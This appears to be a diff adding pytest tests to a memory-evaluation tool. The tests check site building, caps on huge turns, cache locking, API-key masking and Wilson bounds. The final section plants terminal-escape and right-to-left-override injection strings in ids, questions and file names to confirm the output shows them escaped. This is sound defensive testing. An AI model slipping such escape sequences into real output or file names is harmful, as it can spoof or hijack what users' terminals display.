+    with Cache.open(cache_path_for(store)) as cache:
+        cache.put("chat:x", "key", b"a paid reply")
+    before = {p: p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()}
+    line = one_line_error(evals("build-site", "--store", store, "--out", site))
+    assert line == (
+        f"Error: --out {site.absolute()} holds the store {store.absolute()} (and its cache); a build replaces that whole "
+        "folder, so it would delete them: choose another --out, or keep the store elsewhere"
+    )
+    assert {p: p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()} == before
+
+
+def test_build_site_refuses_the_store_folder_itself(tmp_path):
+    """--out naming the folder the store is in is refused the same way (if it were empty but for the store)."""
+    store = stored_store(tmp_path)
+    line = one_line_error(evals("build-site", "--store", store, "--out", store.parent))
+    assert f"holds the store {store.absolute()}" in line
+
+
+# -- 8. one huge turn ---------------------------------------------------------------------------
+
+HUGE = 2_000_000  # characters of the huge turn (the issue saw 50 MB; 2 MB shows the same)
+
+
+@pytest.fixture
+def huge_site(tmp_path):
+    """A site of bm25 and full_history runs on a conversation whose first turn is 2 MB, with the answer at its start."""
+    filler = ("lorem ipsum dolor sit amet " * (HUGE // 27 + 1))[: HUGE - 40]
+    big = "The deploy bucket is larkspur-prod-7. " + filler + " THE END."
+    turns = [{"role": "user", "content": big}, {"role": "assistant", "content": "Noted."}]
+    for i in range(3):
+        turns += [
+            {"role": "user", "content": f"filler {i}"},
+            {"role": "assistant", "content": f"ok {i}"},
+            {"role": "user", "content": f"question {i}", "test_at": {"question": "Which bucket for deploys?", "expected_fact": "larkspur-prod-7", "expected_keywords": ["larkspur-prod-7"]}},
+        ]
+    corpus = corpus_of(tmp_path / "huge", {"schema_version": "1", "id": "huge", "description": "one huge turn", "turns": turns})
+    store = tmp_path / "results.duckdb"
+    for runner in ("bm25", "full_history"):
+        assert evals("run", "--runner", runner, "--corpus", corpus, "--store", store).exit_code == 0
+    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
+    return tmp_path / "site", big
+
+
+def test_huge_turn_gives_bounded_pages(huge_site):
+    """No page holds the huge turn whole: every drill-down stays far below its size."""
+    site, big = huge_site
+    pages = list((site / "runs").rglob("*.html"))
+    assert pages and max(p.stat().st_size for p in pages) < 200_000
+
+
+def test_capped_text_states_its_length_and_links_the_whole(huge_site):
+    """A capped text shows its start and end, says how long it is, and the transcript links the whole turn."""
+    import re
+
+    site, big = huge_site
+    page = next(p for p in (site / "runs").rglob("huge.html") if "larkspur" in p.read_text(encoding="utf-8"))
+    html = page.read_text(encoding="utf-8")
+    assert f"{len(big):,} characters" in html
+    assert "THE END." in html and "<mark>larkspur-prod-7</mark>" in html
+    links = set(re.findall(r'href="([^"]+\.txt)"', html))
+    assert len(links) == 1
+    (link,) = links
+    assert (page.parent / link).resolve().read_text(encoding="utf-8") == big
+
+
+def test_short_texts_are_not_capped(tmp_path):
+    """A corpus of ordinary turns shows every text whole, with no omission note."""
+    store = stored_store(tmp_path, runner="bm25")
+    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
+    for page in (tmp_path / "site" / "runs").rglob("*.html"):
+        assert "characters omitted" not in page.read_text(encoding="utf-8")
+    assert not list((tmp_path / "site").rglob("*.txt"))
+
+
+# -- 9. concurrent runs with answers ------------------------------------------------------------
+
+HOLD_LOCK = "import duckdb, sys, time; c = duckdb.connect(sys.argv[1]); print('held', flush=True); time.sleep(float(sys.argv[2]))"
+
+
+def hold_lock(path: Path, seconds: float):
+    """Another process holding ``path``'s DuckDB write lock for ``seconds`` (as a running run holds its cache)."""
+    import subprocess
+    import sys
+
+    proc = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, str(path), str(seconds)], stdout=subprocess.PIPE, text=True)
+    assert proc.stdout.readline().strip() == "held"
+    return proc
+
+
+def test_second_run_with_answers_waits_for_the_cache(tmp_path):
+    """While another run holds the response cache, a run with answers waits for it instead of failing at once."""
+    from llm_server import LLMServer
+
+    from evals.cache import Cache, cache_path_for
+
+    store = tmp_path / "results.duckdb"
+    with Cache.open(cache_path_for(store)) as cache:
+        cache.put("test:x", "key", b"value")
+    holder = hold_lock(cache_path_for(store), 1.5)
+    try:
+        with LLMServer() as server:
+            result = evals(
+                "run", "--runner", "recency", "--corpus", CORPUS_SMALL, "--store", store, "--base-url", server.base_url,
+                "--with-answers", env={"EVALS_LLM_BACKOFF": "0.01", "OPENAI_API_KEY": "sk-unused-0000"},
+            )
+        assert result.exit_code == 0, result.output
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+def test_cache_lock_held_too_long_is_one_line(tmp_path):
+    """When the cache stays locked past the timeout, the error says so and what to do."""
+    from evals.cache import Cache
+    from evals.errors import EvalsError
+
+    path = tmp_path / "results.cache.duckdb"
+    with Cache.open(path) as cache:
+        cache.put("test:x", "key", b"value")
+    holder = hold_lock(path, 10)
+    try:
+        with pytest.raises(EvalsError) as caught:
+            Cache(path, lock_timeout=0.3).get("test:x", "key")
+        assert str(caught.value) == (
+            f"cache {path} is locked by another process (waited 0.3 s), probably another run using it; "
+            "try again when it has finished, or run with --no-cache"
+        )
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+# -- 10. secrets --------------------------------------------------------------------------------
+
+KEY = "sk-hostile-test-5f2a9c7e1b"
+
+
+def answers_run(server, store: Path, *extra: str, runner: str = "recency"):
+    return evals(
+        "run", "--runner", runner, "--corpus", CORPUS_SMALL, "--store", store, "--base-url", server.base_url,
+        "--with-answers", "--judge", "--concurrency", "1", *extra,
+        env={"EVALS_LLM_BACKOFF": "0.01", "OPENAI_API_KEY": KEY, "OPENAI_BASE_URL": None},
+    )
+
+
+def test_judge_reply_echoing_the_key_is_masked_in_the_error(store):
+    """A judge reply that is no verdict and quotes the key: the error shows it masked, nothing is stored
+    (the cache beside the store keeps the replies it paid for, scrubbed)."""
+    from llm_server import LLMServer
+
+    before = store.read_bytes()
+    with LLMServer() as server:
+        server.echo_key = True
+        server.fail_next(*["ok"] * 4, "no_verdict")
+        result = answers_run(server, store)
+    line = one_line_error(result)
+    assert "malformed reply" in line and KEY not in line and "***" in line
+    assert store.read_bytes() == before
+    assert KEY.encode() not in store.with_name("results.cache.duckdb").read_bytes()
+
+
+def test_answers_and_reasons_echoing_the_key_are_scrubbed_everywhere(tmp_path):
+    """Answers, judge reasons and summaries that quote the key are stored, cached, exported and
+    published with it masked: the key is in no file the run and the site wrote."""
+    from llm_server import LLMServer
+
+    store = tmp_path / "results.duckdb"
+    with LLMServer() as server:
+        server.echo_key = True
+        for runner in ("recency", "summary_buffer"):
+            result = answers_run(server, store, "--output", str(tmp_path / f"{runner}.json"), runner=runner)
+            assert result.exit_code == 0, result.output
+            assert KEY not in result.output
+    run_id = evals("runs", "--format", "json", "--store", store).output
+    for summary in json.loads(run_id):
+        assert evals("export", summary["run_id"], "--store", store, "--output", tmp_path / f"export-{summary['run_id']}.json").exit_code == 0
+    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
+    written = [p for p in tmp_path.rglob("*") if p.is_file()]
+    assert any("sent with key ***" in p.read_text(encoding="utf-8", errors="replace") for p in written if p.suffix == ".html")
+    leaking = [p for p in written if KEY.encode() in p.read_bytes()]
+    assert leaking == []
+
+
+@pytest.mark.parametrize(
+    "url, warned",
+    [
+        ("http://0.0.0.0:9/v1", True),
+        ("http://llm.example.invalid:9/v1", True),
+        ("https://llm.example.invalid/v1", False),
+        ("http://127.0.0.1:9/v1", False),
+        ("http://localhost:9/v1", False),
+        ("http://[::1]:9/v1", False),
+    ],
+)
+def test_key_sent_in_the_clear_is_warned_about(url, warned):
+    """The key going to a plain-http URL other than this machine gets a warning; https or localhost does not."""
+    from evals.llm import exposed_key_warning
+
+    warning = exposed_key_warning(url, KEY)
+    if warned:
+        assert warning == f"the API key will be sent unencrypted to {url} (plain http); use https, or a server on this machine"
+    else:
+        assert warning is None
+    assert exposed_key_warning(url, None) is None
+
+
+def test_run_prints_the_warning_before_any_request(tmp_path):
+    """`evals run` prints the warning on stderr before it starts (here the server is not even there)."""
+    result = CliRunner().invoke(
+        cli,
+        ["run", "--runner", "no_memory", "--corpus", str(CORPUS_SMALL), "--store", str(tmp_path / "r.duckdb"), "--with-answers",
+         "--base-url", "http://0.0.0.0:9/v1", "--max-retries", "0", "--request-timeout", "2"],
+        env={"OPENAI_API_KEY": KEY},
+    )
+    assert result.exit_code == 1
+    assert result.stderr.splitlines()[0] == (
+        "warning: the API key will be sent unencrypted to http://0.0.0.0:9/v1 (plain http); use https, or a server on this machine"
+    )
+    assert KEY not in result.output
+
+
+# -- 11. smaller --------------------------------------------------------------------------------
+
+
+def test_compare_prints_terminal_escapes_visibly(tmp_path):
+    """Escape sequences in a conversation id and a question are shown as \\x1b, never sent to the terminal."""
+    data = conversation("c\x1b[2Jx")
+    data["turns"][1]["test_at"]["question"] = "editor?\x1b]0;pwned\x07 \u202eevil"
+    corpus = corpus_of(tmp_path / "c", data)
+    store = tmp_path / "results.duckdb"
+    ids = []
+    for runner in ("no_memory", "full_history"):
+        result = evals("run", "--runner", runner, "--corpus", corpus, "--store", store)
+        assert result.exit_code == 0, result.output
+        ids.append(result.output.split("run ", 1)[1].split(":", 1)[0])
+    result = evals("compare", *ids, "--store", store)
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "\x07" not in result.output and "\u202e" not in result.output
+    assert "c\\x1b[2Jx turn 1: editor?\\x1b]0;pwned\\x07 \\u202eevil" in result.output
+
+
+def test_tables_print_terminal_escapes_visibly(tmp_path):
+    """The same in `evals runs` and `evals leaderboard` tables (a corpus folder named with an escape)."""
+    corpus = corpus_of(tmp_path / "evil\x1b[31m", conversation())
+    store = tmp_path / "results.duckdb"
+    assert evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store).exit_code == 0
+    for command in ("runs", "leaderboard"):
+        output = evals(command, "--store", store).output
+        assert "\x1b" not in output and "evil\\x1b[31m" in output
+
+
+def test_errors_print_terminal_escapes_visibly(tmp_path):
+    """A file name with an escape in it appears escaped in validate's problems and in Error: lines."""
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    write_json(corpus / "x\x1b[2J.json", "{")
+    output = evals("validate", corpus).output
+    assert "\x1b" not in output and "x\\x1b[2J.json" in output
+    result = evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", tmp_path / "r.duckdb")
+    assert "\x1b" not in result.output and "x\\x1b[2J.json" in one_line_error(result)
+
+
+def test_wilson_lower_bound_of_no_hits_is_zero(tmp_path):
+    """0 hits of 3 has the lower bound 0.0, not 5.55e-17 (and all hits the upper bound 1.0)."""
+    from evals.stats import wilson_interval
+
+    assert all(wilson_interval(0, n)[0] == 0.0 and wilson_interval(n, n)[1] == 1.0 for n in range(1, 500))
+    data = conversation()
+    data["turns"] = data["turns"] + [dict(data["turns"][1]), dict(data["turns"][1])]
+    corpus = corpus_of(tmp_path / "c", data)
+    store = tmp_path / "results.duckdb"
+    assert evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store).exit_code == 0
+    (row,) = csv_rows(evals("runs", "--format", "csv", "--store", store).output)
+    assert row["total"] == "3" and row["recall_low"] == "0.0"
+
+
+def test_long_question_id_is_shortened_for_its_file_name(tmp_path):
+    """A 400-character question id no longer fails with "File name too long": the id is shortened
+    (kept distinct by a hash), the import says so, and the corpus validates."""
+    data = json.loads((FIXTURES / "importers" / "longmemeval_small.json").read_text(encoding="utf-8"))
+    data[0]["question_id"] = "q" * 400
+    source = write_json(tmp_path / "lme.json", data)
+    result = evals("import-corpus", "longmemeval", source, "--out", tmp_path / "out")
+    assert result.exit_code == 0, result.output
+    names = sorted(p.name for p in (tmp_path / "out").iterdir())
+    assert max(len(n) for n in names) <= 100
+    assert f"note: [0]: question id of 400 characters shortened to {names[0][:-5]!r} for its file name" in result.output
+    assert evals("validate", tmp_path / "out").exit_code == 0
+
+
+def test_unwritable_import_names_the_file(tmp_path, monkeypatch):
+    """When a corpus file cannot be written, the error names that file."""
+    from evals.importers import _common
+
+    def fail(self, *args, **kwargs):
+        raise OSError(36, "File name too long", str(self))
+
+    monkeypatch.setattr(_common.Path, "write_text", fail)
+    source = FIXTURES / "importers" / "longmemeval_small.json"
+    line = one_line_error(evals("import-corpus", "longmemeval", source, "--out", tmp_path / "out"))
+    assert line.startswith(f"Error: cannot write {tmp_path / 'out'}: File name too long: ") and line.endswith(".json")
+
+
+def test_leftovers_of_a_killed_build_are_removed(tmp_path):
+    """A build killed mid-way leaves .site.building-PID; the next build removes it (its process is gone)
+    and leaves a running build's folder alone."""
+    import subprocess
+    import sys
+
+    store = stored_store(tmp_path)
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
+    stale = tmp_path / f".site.building-{dead}"
+    (stale / "runs").mkdir(parents=True)
+    old = tmp_path / f".site.old-{dead}"
+    old.mkdir()
+    alive = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
+    try:
+        running = tmp_path / f".site.building-{alive.pid}"
+        running.mkdir()
+        assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
+        assert not stale.exists() and not old.exists() and running.exists()
+    finally:
+        alive.kill()
+        alive.wait()
+
+
+def test_deeply_nested_llm_replies_are_malformed_not_tracebacks():
+    """A server's body, or a judge's reply, nested 3,000 deep is a malformed reply (ValueError), not a RecursionError."""
+    from evals.llm import parse_verdict
+    from evals.llm._client import parse_reply
+
+    with pytest.raises(ValueError, match="nested too deeply"):
+        parse_reply('{"choices": ' + DEEP + "}", 0.1, cached=False)
+    with pytest.raises(ValueError, match="nested too deeply"):
+        parse_verdict('{"correct": true, "reason": ' + DEEP + "}")
